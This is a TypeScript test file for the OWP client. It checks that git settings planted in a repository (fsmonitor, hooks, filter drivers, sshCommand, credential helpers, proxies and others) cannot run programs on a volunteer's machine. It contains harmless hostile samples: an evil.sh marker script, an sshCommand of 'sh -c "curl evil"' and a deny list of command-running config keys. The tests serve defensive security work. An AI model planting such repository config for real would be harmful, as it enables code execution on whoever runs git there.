/**
 * A repository's own git config cannot make OWP's git run a program on the volunteer's machine:
 * core.fsmonitor and hooks (core.hooksPath) are turned off on every call; filter drivers,
 * core.sshCommand, credential helpers and the like set by the repository (its .git/config, or a
 * file it includes) make OWP refuse to run git there, while the same keys in the volunteer's own
 * ~/.gitconfig are left alone. Each case first shows plain git would run the command.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { commitAll, git, UnsafeGitConfigError } from '../../client/git.ts';
import { readRepoConfig, RepoConfigCheck } from '../../client/repo-git-config.ts';
import { tempDir } from '../helpers/coordinator.ts';

const IDENTITY = { name: 'V', email: 'v@example.invalid' };

/** A repo with one commit, a marker path a hostile command would create, and a clean global config. */
async function hostileRepo(): Promise<{ root: string; dir: string; marker: string; script: string; env: NodeJS.ProcessEnv }> {
  const root = tempDir('owp-gitcfg-');
  const dir = join(root, 'work');
  mkdirSync(dir);
  const marker = join(root, 'ran');
  const script = join(root, 'evil.sh');
  // fsmonitor hooks are called with arguments and must print a token; a filter reads stdin.
  writeFileSync(script, `#!/bin/sh\ntouch ${JSON.stringify(marker)}\ncat\n`);
  chmodSync(script, 0o755);
  const globalConfig = join(root, 'gitconfig');
  writeFileSync(globalConfig, '');
  const env = { ...process.env, GIT_CONFIG_GLOBAL: globalConfig, GIT_CONFIG_NOSYSTEM: '1' };
  const plain = (args: string[]): string => execFileSync('git', args, { cwd: dir, env, encoding: 'utf8' });
  plain(['init', '-q', '-b', 'main']);
  writeFileSync(join(dir, 'a.txt'), 'a\n');
  plain(['add', 'a.txt']);
  plain(['-c', 'user.name=V', '-c', 'user.email=v@example.invalid', 'commit', '-q', '-m', 'first']);
  return { root, dir, marker, script, env };
}

function withEnv<T>(env: NodeJS.ProcessEnv, body: () => Promise<T>): Promise<T> {
  const saved = { GIT_CONFIG_GLOBAL: process.env.GIT_CONFIG_GLOBAL, GIT_CONFIG_NOSYSTEM: process.env.GIT_CONFIG_NOSYSTEM };
  process.env.GIT_CONFIG_GLOBAL = env.GIT_CONFIG_GLOBAL;
  process.env.GIT_CONFIG_NOSYSTEM = '1';
  return body().finally(() => {
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });
}

test('core.fsmonitor set by the repository does not run for OWP\'s status, add and commit', async () => {
  const { root, dir, marker, script, env } = await hostileRepo();
  try {
    execFileSync('git', ['config', 'core.fsmonitor', script], { cwd: dir, env });
    writeFileSync(join(dir, 'a.txt'), 'changed\n');
    execFileSync('git', ['status', '--porcelain'], { cwd: dir, env });
    assert.ok(existsSync(marker), 'plain git runs the fsmonitor program (the attack is real)');
    rmSync(marker);
    await withEnv(env, async () => {
      assert.equal(await git(dir, ['status', '--porcelain']), 'M a.txt');
      assert.ok(await commitAll(dir, 'change', IDENTITY));
    });
    assert.equal(existsSync(marker), false, 'OWP\'s git ran no fsmonitor');
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

test('a core.hooksPath the repository sets (as husky does) runs no hook for OWP\'s commit', async () => {
  const { root, dir, marker, script, env } = await hostileRepo();
  try {
    const hooks = join(dir, '.hooks');
    mkdirSync(hooks);
    for (const hook of ['pre-commit', 'post-commit', 'post-checkout']) writeFileSync(join(hooks, hook), `#!/bin/sh\n${JSON.stringify(script)} </dev/null\n`);
    for (const hook of ['pre-commit', 'post-commit', 'post-checkout']) chmodSync(join(hooks, hook), 0o755);
    execFileSync('git', ['config', 'core.hooksPath', '.hooks'], { cwd: dir, env });
    execFileSync('git', ['checkout', '-q', '-b', 'plain'], { cwd: dir, env });
    assert.ok(existsSync(marker), 'plain git runs the repository\'s post-checkout hook');
    rmSync(marker);
    await withEnv(env, async () => {
      await git(dir, ['checkout', '-q', '-b', 'owp/T-1-x']);
      writeFileSync(join(dir, 'b.txt'), 'b\n');
      assert.ok(await commitAll(dir, 'add b', IDENTITY));
    });
    assert.equal(existsSync(marker), false, 'no hook ran');
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

test('a filter driver the repository defines (directly or through an include) is refused before git runs, with the key to remove', async () => {
  const { root, dir, marker, script, env } = await hostileRepo();
  try {
    writeFileSync(join(dir, '.gitattributes'), '*.txt filter=evil\n');
    // Through an included file: git reports its entries at the including file's scope.
    writeFileSync(join(dir, '.git', 'extra.cfg'), `[filter "evil"]\n\tclean = ${script}\n`);
    execFileSync('git', ['config', 'include.path', 'extra.cfg'], { cwd: dir, env });
    writeFileSync(join(dir, 'c.txt'), 'c\n');
    execFileSync('git', ['add', 'c.txt'], { cwd: dir, env });
    assert.ok(existsSync(marker), 'plain git add runs the clean filter');
    rmSync(marker);
    execFileSync('git', ['reset', '-q'], { cwd: dir, env });
    rmSync(marker, { force: true });
    await withEnv(env, async () => {
      await assert.rejects(commitAll(dir, 'add c', IDENTITY), (error: unknown) => {
        assert.ok(error instanceof UnsafeGitConfigError);
        assert.equal(error.code, 'UNSAFE_GIT_CONFIG');
        assert.match(error.message, /filter\.evil\.clean \(runs a filter driver on add and checkout\)/);
        assert.match(error.message, /git config --local --unset-all filter\.evil\.clean/);
        return true;
      });
    });
    assert.equal(existsSync(marker), false, 'the filter did not run');
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

test('core.sshCommand and credential helpers: refused from the repository, left alone in the volunteer\'s own ~/.gitconfig', async () => {
  const { root, dir, env } = await hostileRepo();
  try {
    writeFileSync(env.GIT_CONFIG_GLOBAL as string, '[core]\n\tsshCommand = ssh -i ~/.ssh/mine\n[credential]\n\thelper = store\n');
    await withEnv(env, async () => {
      assert.equal(await git(dir, ['rev-parse', '--abbrev-ref', 'HEAD']), 'main', 'global settings are the volunteer\'s');
      execFileSync('git', ['config', 'core.sshCommand', 'sh -c "curl evil"'], { cwd: dir, env });
      await assert.rejects(git(dir, ['rev-parse', 'HEAD']), /core\.sshcommand \(runs a program\)/);
      execFileSync('git', ['config', '--unset', 'core.sshCommand'], { cwd: dir, env });
      execFileSync('git', ['config', 'credential.https://github.com.helper', '!evil'], { cwd: dir, env });
      await assert.rejects(git(dir, ['rev-parse', 'HEAD']), UnsafeGitConfigError);
    });
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

test('the listing parser: only local and worktree scopes, every command-running family', () => {
  const entry = (scope: string, kv: string): string => `${scope}\0file:.git/config\0${kv}\0`;
  const listing = [
    entry('global', 'core.sshcommand\nssh -i k'),
    entry('local', 'core.bare\nfalse'),
    entry('local', 'diff.pdf.textconv\npdftotext'),
    entry('worktree', 'merge.ours.driver\ntrue'),
    entry('local', 'remote.origin.uploadpack\nevil'),
    entry('local', 'protocol.ext.allow\nalways'),
    entry('local', 'http.https://github.com/.proxy\nhttp://evil:8080'),
    entry('local', 'gpg.program\nevil'),
    entry('command', 'core.fsmonitor\nfalse'),
  ].join('');
  assert.deepEqual(readRepoConfig(listing, '/repo').unsafe.map((s) => `${s.scope} ${s.key}`), [
    'local diff.pdf.textconv',
    'worktree merge.ours.driver',
    'local remote.origin.uploadpack',
    'local protocol.ext.allow',
    'local http.https://github.com/.proxy',
    'local gpg.program',
  ]);
});

test('the listing parser: the files a result depends on, includes resolved as git does (also ones not there yet)', () => {
  const listing = [
    'global\0file:/home/v/.gitconfig\0include.path\nelsewhere.cfg\0',
    'local\0file:.git/config\0include.path\nextra.cfg\0',
    'local\0file:.git/config\0includeif.gitdir:/x/.path\n/abs/other.cfg\0',
    'worktree\0file:/repo/.git/worktrees/w/config.worktree\0core.bare\nfalse\0',
  ].join('');
  assert.deepEqual(readRepoConfig(listing, '/repo').files.sort(), ['/abs/other.cfg', '/repo/.git/config', '/repo/.git/extra.cfg', '/repo/.git/worktrees/w/config.worktree']);
});

/** The check as client/git.ts runs it, counting its `git config --list` calls. */
function countingCheck(env: NodeJS.ProcessEnv): { check: RepoConfigCheck; listings: () => number } {
  let listings = 0;
  const check = new RepoConfigCheck(async (cwd, args) => {
    if (args[0] === 'config') listings += 1;
    return execFileSync('git', [...args], { cwd, env, encoding: 'utf8' });
  });
  return { check, listings: () => listings };
}

test('the check runs once per repository and again only when its config changed: a setting added after the first call is still refused', async () => {
  const { root, dir, script, env } = await hostileRepo();
  try {
    const { check, listings } = countingCheck(env);
    assert.deepEqual(await check.unsafe(dir), []);
    assert.deepEqual(await check.unsafe(dir), []);
    assert.deepEqual(await check.unsafe(`${dir}/`), [], 'another spelling of the folder is its own entry');
    assert.equal(listings(), 2, 'unchanged config: the first result is reused');

    // Written after the first call: the repository's own config.
    execFileSync('git', ['config', 'core.sshCommand', script], { cwd: dir, env });
    assert.deepEqual((await check.unsafe(dir)).map((s) => s.key), ['core.sshcommand']);
    execFileSync('git', ['config', '--unset', 'core.sshCommand'], { cwd: dir, env });
    assert.deepEqual(await check.unsafe(dir), []);

    // An include of a file that does not exist yet: creating it later is seen.
    execFileSync('git', ['config', 'include.path', 'later.cfg'], { cwd: dir, env });
    assert.deepEqual(await check.unsafe(dir), []);
    const before = listings();
    assert.deepEqual(await check.unsafe(dir), []);
    assert.equal(listings(), before, 'settled again once nothing moved');
    writeFileSync(join(dir, '.git', 'later.cfg'), `[filter "evil"]\n\tclean = ${script}\n`);
    assert.deepEqual((await check.unsafe(dir)).map((s) => s.key), ['filter.evil.clean']);

    // A per-worktree config file created after the first call.
    rmSync(join(dir, '.git', 'later.cfg'));
    execFileSync('git', ['config', 'extensions.worktreeConfig', 'true'], { cwd: dir, env });
    assert.deepEqual(await check.unsafe(dir), []);
    writeFileSync(join(dir, '.git', 'config.worktree'), `[credential]\n\thelper = ${script}\n`);
    assert.deepEqual((await check.unsafe(dir)).map((s) => `${s.scope} ${s.key}`), ['worktree credential.helper']);
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

test('git() itself refuses a setting the repository gained after OWP already ran git there', async () => {
  const { root, dir, script, env } = await hostileRepo();
  try {
    await withEnv(env, async () => {
      assert.equal(await git(dir, ['rev-parse', '--abbrev-ref', 'HEAD']), 'main');
      execFileSync('git', ['config', 'core.sshCommand', script], { cwd: dir, env });
      await assert.rejects(git(dir, ['rev-parse', 'HEAD']), UnsafeGitConfigError);
    });
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});
